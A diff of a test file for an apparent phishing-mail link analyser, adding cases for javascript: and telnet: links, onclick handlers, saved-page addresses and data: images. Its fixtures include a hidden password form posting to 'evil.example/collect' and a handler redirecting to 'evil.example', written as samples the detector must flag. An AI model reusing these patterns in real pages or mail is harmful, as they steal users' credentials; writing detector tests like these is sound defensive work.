@@ -27,11 +27,36 @@ test.each([
   [`<a href="../x.html">${SHOWN}</a>`, 'relative'],
   [`<a href="#top">${SHOWN}</a>`, 'relative'],
   [`<a href="">${SHOWN}</a>`, 'relative'],
+  [`<a href="JavaScript:x()">${SHOWN}</a>`, 'script'],
 ] as const)('%s is a finding, and its words are not a link in its place', (markup, kind) => {
   const { links, nonWeb } = readMarkup(markup);
   expect(links).toEqual([]);
   expect(nonWeb.map((one): string => one.kind)).toEqual([kind]);
   expect(nonWeb[0]?.words).toContain('www.paypal.com');
+});
+
+test.each([
+  ['<a href="telnet://evil.example">Log in</a>', 'app'],
+  ['<a href="hotel:1">Log in</a>', 'app'],
+  ['<a href="javascripts:x">Log in</a>', 'app'],
+  ['<a href="ajavascript:x">Log in</a>', 'app'],
+  ['<a href="metadata:x">Log in</a>', 'app'],
+  ['<a href="database:x">Log in</a>', 'app'],
+  ['<a href="page#">Log in</a>', 'relative'],
+  ['<span onclick="doSubmit()">Log in</span>', 'script'],
+])('%s is a finding, though its words name no site', (markup, kind) => {
+  expect(readMarkup(markup).nonWeb).toMatchObject([{ kind, words: 'Log in' }]);
+});
+
+test('returns a repeated target once, truncated to 500 characters', () => {
+  const link = `<a href=" /${'x'.repeat(600)}">Log in</a>`;
+  const found = { kind: 'relative', element: 'link', target: `/${'x'.repeat(499)}`, words: 'Log in' };
+  expect(readMarkup(`${link}${link}<a href="/y"></a>`).nonWeb).toEqual([
+    found,
+    { ...found, target: '/y', words: null },
+  ] as never);
+  const [cut] = readMarkup(`<a href="/${'😀'.repeat(250)}">Log in</a>`).nonWeb;
+  expect(cut?.target.isWellFormed()).toBeTrue();
 });
 
 test.each([
@@ -48,17 +73,19 @@ test.each([
   '<a href="https://a.example/" onclick="ga(1)">Read more</a><button onclick="menu()">Menu</button>',
   '<iframe src="about:blank"></iframe><img src="cid:logo"><a name="x">x</a>',
   '<a href="x-apple-data-detectors://0">Main Street 5</a>',
+  '<a href=" ">Top</a><a href=" #top">Top</a>',
+  '<base href="https://a.example/x"><a href="">Top</a><a href=" #top">Top</a>',
 ])('%s is what ordinary messages have', (markup) => {
   expect(readMarkup(markup).nonWeb).toEqual([]);
 });
 
-test('a handler that leaves the page is found beside the address that it bypasses', () => {
+test('finds a handler that navigates beside the address that it bypasses', () => {
   const { links, nonWeb } = readMarkup(`<a href="${SHOWN}" onclick="location.href='//evil.example'">${SHOWN}</a>`);
   expect(links.map(({ url }) => url)).toEqual([SHOWN]);
   expect(nonWeb.map(({ kind }) => kind)).toEqual(['script']);
 });
 
-test('a page that a link or a frame carries in itself is read', () => {
+test('reads a page within a link or a frame', () => {
   const page = '<form action="https://evil.example/collect"><input type=password>';
   for (const address of [`data:text/html,${encodeURIComponent(page)}`, `data:text/html;base64,${btoa(page)}`]) {
     for (const markup of [`<a href="${address}">Open</a>`, `<iframe src="${address}"></iframe>`]) {
@@ -67,7 +94,7 @@ test('a page that a link or a frame carries in itself is read', () => {
   }
 });
 
-test('the plain text of a mail does not bring back what its HTML shows in front of a script', async () => {
+test('ignores links of the plain text that the HTML shows in front of a script', async () => {
   const mail = htmlMail(`<a href="javascript:x()">${SHOWN}</a>`, `Sign in: ${SHOWN} or https://other.example/`);
   const message = await readMessage(bytesOf(mail));
   expect(message?.links.map(({ url }) => url)).toEqual(['https://other.example/']);
@@ -103,7 +130,7 @@ test.each([
   expect(nonWeb).toEqual([]);
 });
 
-test('a page that a browser saved as a mail is at the address that its header names', async () => {
+test('a page saved as a mail has the address in its header', async () => {
   const mail = htmlMail(FORM, '').replace(
     'MIME-Version',
     'Snapshot-Content-Location: https://kit.example/a/b\r\nMIME-Version',
@@ -112,15 +139,26 @@ test('a page that a browser saved as a mail is at the address that its header na
   expect(message?.links.map(({ url }) => url)).toEqual(['https://kit.example/a/b', 'https://kit.example/a/post.php']);
 });
 
-test('a comment that names no saved page, and a file: address, are no base', () => {
+test.each(['file:///home/https:/kit.example', 'about:blank', 'HTTPS://KIT.example/a'])(
+  'a page that was saved from %s has its address if that is of the web',
+  async (address) => {
+    const mail = htmlMail('x', '').replace('MIME-Version', `Snapshot-Content-Location: ${address}\r\nMIME-Version`);
+    const isOfWeb = address === 'HTTPS://KIT.example/a';
+    expect((await readMessage(bytesOf(mail)))?.links.map(({ url }) => url)).toEqual(
+      isOfWeb ? ['https://kit.example/a'] : [],
+    );
+  },
+);
+
+test('a comment without a saved page, and a file: address, are not a base', () => {
   const { links, nonWeb } = readMarkup(`<!-- saved from url=(0012)file:///C:/x.html -->${FORM}`);
   expect(links).toEqual([]);
   expect(nonWeb.map(({ kind }) => kind)).toEqual(['relative']);
 });
 
-test('pictures in data: URLs are handed on', async () => {
+test('returns pictures in data: URLs', async () => {
   const bytes = new Uint8Array([137, 80, 78, 71, 0, 255]);
-  const markup = `<img alt="Scan me" src="data:image/png;base64,${bytes.toBase64()}"><img src="data:image/gif,%47%00%FF">`;
+  const markup = `<img alt="Scan me" src="data:image/png;base64,${bytes.toBase64()}"><img src="DATA:image/gif,%47%00%FF">`;
   const pictures = [
     { name: 'Scan me', contentType: 'image/png', bytes },
     { name: 'img', contentType: 'image/gif', bytes: new Uint8Array([0x47, 0, 255]) },
